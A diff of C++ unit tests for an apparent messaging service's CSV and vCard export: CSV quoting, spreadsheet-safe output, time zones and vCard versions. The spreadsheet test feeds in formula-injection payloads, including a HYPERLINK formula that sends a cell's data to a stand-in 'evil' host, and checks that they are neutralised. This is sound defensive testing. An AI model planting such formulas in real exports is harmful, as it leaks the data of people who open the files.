@@ -117,56 +117,148 @@ TEST_F(Export, OnlyContactsAreVcards) {
 }
 
 TEST(Csv, QuotesWhatNeedsIt) {
-  const auto csv = api::make_csv(R"({"a":null,"b, c":null})");
+  const api::CsvWriter csv;
   string text;
-  csv->begin(text);
-  csv->row(text, R"({"a":"plain","b":"say \"hi\", please"})");
-  csv->row(text, R"({"a":null,"b":""})");
-  csv->row(text, R"({"a":"two\r\nlines","b":" space"})");
-  csv->row(text, R"({"a":1.5,"b":["x",{"y":null}]})");
-  csv->row(text, R"({"a":true,"b":"Café 😀"})");
-  csv->end(text);
+  csv.begin(text, {{"a"}, {"b, c"}});
+  const std::pair<optional<string>, optional<string>> rows[] = {
+      {"plain", "say \"hi\", please"}, {{}, ""}, {"two\r\nlines", " space"}, {"=1+1", "Café 😀"}, {"", {}}};
+  for (const auto& [first, second] : rows) {
+    for (const auto& field : {first, second}) {
+      if (field) csv.text(text, *field);
+      else csv.null(text);
+    }
+    api::CsvWriter::end_row(text);
+  }
+  csv.json(text, "-1.5");
+  csv.json(text, R"(["x",{"y":null}])");
+  api::CsvWriter::end_row(text);
   EXPECT_EQ(text,
             "a,\"b, c\"\r\n"
             "plain,\"say \"\"hi\"\", please\"\r\n"
             ",\"\"\r\n"
             "\"two\r\nlines\",\" space\"\r\n"
-            "1.5,\"[\"\"x\"\",{\"\"y\"\":null}]\"\r\n"
-            "true,Café 😀\r\n");
+            "=1+1,Café 😀\r\n"
+            "\"\",\r\n"
+            "-1.5,\"[\"\"x\"\",{\"\"y\"\":null}]\"\r\n");
 }
 
-string vcard_of(const json& changes) {
-  json contact = {{"id", "con_1"},
-                  {"name", nullptr},
-                  {"last_name", nullptr},
-                  {"company", nullptr},
-                  {"job_title", nullptr},
-                  {"emails", json::array()},
-                  {"numbers", json::array()},
-                  {"updated_at", "2026-03-02T09:10:07.000Z"}};
-  contact.update(changes);
+TEST(Csv, ForSpreadsheetsHasNoFormulas) {
+  const api::CsvWriter csv({.for_spreadsheet = true});
+  string header;
+  csv.begin(header, {{"a"}});
+  EXPECT_EQ(header,
+            "\xEF\xBB\xBF"
+            "a\r\n");
+  const std::pair<const char*, const char*> rows[] = {
+      {"=HYPERLINK(\"http://evil\"&A1)", "\"'=HYPERLINK(\"\"http://evil\"\"&A1)\","},
+      {"+33612345678", "'+33612345678,"},
+      {"-1", "'-1,"},
+      {"@SUM(1+1)", "'@SUM(1+1),"},
+      {"\t=1", "'\t=1,"},
+      {"\r=1", "\"'\r=1\","},
+      {"\n=1", "\"'\n=1\","},
+      {"1=1", "1=1,"},
+      {"'=1", "'=1,"},
+      {"", "\"\","},
+  };
+  for (const auto& [field, expected] : rows) {
+    string text;
+    csv.text(text, field);
+    EXPECT_EQ(text, expected) << field;
+  }
+}
+
+TEST(Csv, TellsTimesInTheZone) {
+  constexpr Millis kSummer = 1'782'900'000'123;  // 2026-07-01T10:00:00.123Z
+  constexpr Millis kBeforeZones = -3'000'000'000'000;
+  const struct {
+    Millis at;
+    const char *zone, *plain, *for_spreadsheet;
+  } rows[] = {
+      {kSummer, "UTC", "2026-07-01T10:00:00.123Z,", "2026-07-01 10:00:00,"},
+      {kSummer, "Europe/Paris", "2026-07-01T12:00:00.123+02:00,", "2026-07-01 12:00:00,"},
+      {kSummer, "America/St_Johns", "2026-07-01T07:30:00.123-02:30,", "2026-07-01 07:30:00,"},
+      {kBeforeZones, "Europe/Paris", "1874-12-07T18:40:00.000Z,", "1874-12-07 18:49:21,"},  // Paris was at +00:09:21
+  };
+  for (const auto& row : rows) {
+    string text;
+    api::CsvWriter({.time_zone = row.zone}).instant(text, row.at);
+    EXPECT_EQ(text, row.plain);
+    EXPECT_EQ(parse_instant(text.substr(0, text.size() - 1)), row.at) << row.plain << ": the same instant";
+    text.clear();
+    api::CsvWriter({.for_spreadsheet = true, .time_zone = row.zone}).instant(text, row.at);
+    EXPECT_EQ(text, row.for_spreadsheet);
+  }
+}
+
+TEST_F(Export, CsvIsForProgramsOrForSpreadsheets) {
+  receive_message(0, "@SUM(1+1)");
+  EXPECT_THAT(get("/v1/export/messages?format=csv").body, ::testing::HasSubstr("msg_0000,2026-03-02T09:10:00.000Z,"));
+  EXPECT_THAT(get("/v1/export/messages?format=csv&tz=Asia/Tokyo").body,
+              ::testing::HasSubstr("msg_0000,2026-03-02T18:10:00.000+09:00,INBOUND,,@SUM(1+1),+14155550100,"));
+  const auto sheet = get("/v1/export/messages?format=csv&for=spreadsheet&tz=Asia/Tokyo").body;
+  EXPECT_TRUE(sheet.starts_with("\xEF\xBB\xBFid,sent_at,"));
+  EXPECT_THAT(sheet, ::testing::HasSubstr("msg_0000,2026-03-02 18:10:00,INBOUND,,'@SUM(1+1),'+14155550100,"));
+  EXPECT_EQ(refused("/v1/export/messages?for=spreadsheet", 400), "invalid_parameter");
+  EXPECT_EQ(refused("/v1/export/messages?format=csv&for=printers", 400), "invalid_parameter");
+  EXPECT_EQ(refused("/v1/export/messages?format=csv&version=3.0", 400), "unknown_parameter");
+  EXPECT_EQ(refused("/v1/export/contacts?format=csv&version=3.0", 400), "invalid_parameter");
+  EXPECT_EQ(refused("/v1/export/contacts?format=vcard&version=2.1", 400), "invalid_parameter");
+}
+
+Contact contact_with(const std::function<void(Contact&)>& change) {
+  Contact contact;
+  contact.id = "con_1";
+  contact.updated_at = 1'772'442'607'000;  // 2026-03-02T09:10:07Z
+  change(contact);
+  return contact;
+}
+
+string vcard_of(const std::function<void(Contact&)>& change, api::VcardVersion version = api::VcardVersion::v4) {
+  const Contact contact = contact_with(change);
   string text;
-  api::make_vcard()->row(text, contact.dump());
+  api::make_vcard(version)->row(text, std::cref(contact));
   return text;
 }
 
 TEST(Vcard, AlwaysHasAFormattedName) {
-  const std::pair<json, const char*> rows[] = {
-      {{{"name", "Ada"}, {"last_name", "Moreau"}}, "FN:Ada Moreau\r\n"},
-      {{{"last_name", "Moreau"}}, "FN:Moreau\r\n"},
-      {{{"company", "Fils; Cie, SA\\"}}, "FN:Fils\\; Cie\\, SA\\\\\r\n"},
-      {{{"emails", {"a@b.c"}}, {"numbers", {"+1415"}}}, "FN:+1415\r\n"},
-      {{{"emails", {"a@b.c"}}}, "FN:a@b.c\r\n"},
-      {json::object(), "FN:con_1\r\n"},
-      {{{"name", "two\nlines"}}, "FN:two\\nlines\r\n"},
+  const std::pair<std::function<void(Contact&)>, const char*> rows[] = {
+      {[](Contact& it) { it.name = "Ada", it.last_name = "Moreau"; }, "FN:Ada Moreau\r\n"},
+      {[](Contact& it) { it.last_name = "Moreau"; }, "FN:Moreau\r\n"},
+      {[](Contact& it) {
+         it.company = Company{{}, "Fils; Cie, SA\\"};
+       },
+       "FN:Fils\\; Cie\\, SA\\\\\r\n"},
+      {[](Contact& it) { it.emails = {"a@b.c"}, it.numbers = {"+1415"}; }, "FN:+1415\r\n"},
+      {[](Contact& it) { it.emails = {"a@b.c"}; }, "FN:a@b.c\r\n"},
+      {[](Contact&) {}, "FN:con_1\r\n"},
+      {[](Contact& it) { it.name = "two\nlines"; }, "FN:two\\nlines\r\n"},
   };
-  for (const auto& [changes, expected] : rows) EXPECT_THAT(vcard_of(changes), ::testing::HasSubstr(expected));
+  for (const auto& [change, expected] : rows) EXPECT_THAT(vcard_of(change), ::testing::HasSubstr(expected));
+}
+
+TEST(Vcard, OfVersion3HasWhatThatVersionDemands) {
+  const auto ada = [](Contact& it) {
+    it.name = "Ada", it.last_name = "Moreau", it.emails = {"a@b.c"}, it.numbers = {"+14155550100"};
+  };
+  EXPECT_EQ(
+      vcard_of(ada, api::VcardVersion::v3),
+      "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:con_1\r\nFN:Ada Moreau\r\nN:Moreau;Ada;;;\r\n"
+      "EMAIL;TYPE=INTERNET:a@b.c\r\nTEL;TYPE=VOICE:+14155550100\r\nREV:2026-03-02T09:10:07.000Z\r\nEND:VCARD\r\n");
+  EXPECT_EQ(vcard_of(ada),
+            "BEGIN:VCARD\r\nVERSION:4.0\r\nUID;VALUE=text:con_1\r\nFN:Ada Moreau\r\nN:Moreau;Ada;;;\r\n"
+            "EMAIL:a@b.c\r\nTEL;VALUE=text:+14155550100\r\nREV:20260302T091007Z\r\nEND:VCARD\r\n");
+  const auto nobody = [](Contact&) {};
+  EXPECT_THAT(vcard_of(nobody, api::VcardVersion::v3), ::testing::HasSubstr("\r\nN:;;;;\r\n"));
+  EXPECT_THAT(vcard_of(nobody), ::testing::Not(::testing::HasSubstr("\r\nN:")));
 }
 
 TEST(Vcard, HasNoControlCharacters) {
-  const json changes = {
-      {"name", string("A\0d\aa\x1b\x7f\t!", 9)}, {"last_name", "a\rb\r\nc\nd\n\re"}, {"emails", {"a\b@b.c"}}};
-  const string card = vcard_of(changes);
+  const string card = vcard_of([](Contact& it) {
+    it.name = string("A\0d\aa\x1b\x7f\t!", 9);
+    it.last_name = "a\rb\r\nc\nd\n\re";
+    it.emails = {"a\b@b.c"};
+  });
   EXPECT_THAT(card, ::testing::HasSubstr("FN:Ada\t! a\\nb\\nc\\nd\\n\\ne\r\n"));
   EXPECT_THAT(card, ::testing::HasSubstr("EMAIL:a@b.c\r\n"));
 }
@@ -174,7 +266,7 @@ TEST(Vcard, HasNoControlCharacters) {
 TEST(Vcard, FoldsLongLinesBetweenCharacters) {
   string name;
   for (int i = 0; i < 100; ++i) name += i % 3 == 0 ? "😀" : "é";
-  const string card = vcard_of({{"name", name}});
+  const string card = vcard_of([&](Contact& it) { it.name = name; });
   string unfolded;
   for (const auto& line : lines_of(card)) {
     EXPECT_LE(line.size(), 76u) << line;  // 75 and the '\r'
